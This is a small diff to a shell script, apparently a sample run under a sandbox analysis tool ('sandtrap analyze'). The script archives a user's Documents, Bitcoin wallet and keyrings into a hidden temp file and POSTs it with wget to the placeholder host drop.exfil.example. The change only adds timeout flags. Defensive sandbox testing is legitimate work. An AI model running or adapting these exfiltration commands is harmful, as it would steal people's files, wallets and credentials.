@@ -5,5 +5,5 @@
 # host, only through `sandtrap analyze`.
 cd /home/dmitchell || exit 1
 zip -qr /tmp/.w.zip Documents .bitcoin .local/share/keyrings 2>/dev/null || tar cf /tmp/.w.zip Documents
-wget -q --post-file=/tmp/.w.zip --header='Content-Type: application/zip' -O- http://drop.exfil.example/u
+wget -q -T 2 -t 1 --post-file=/tmp/.w.zip --header='Content-Type: application/zip' -O- http://drop.exfil.example/u
 ls -l /tmp/.w.zip
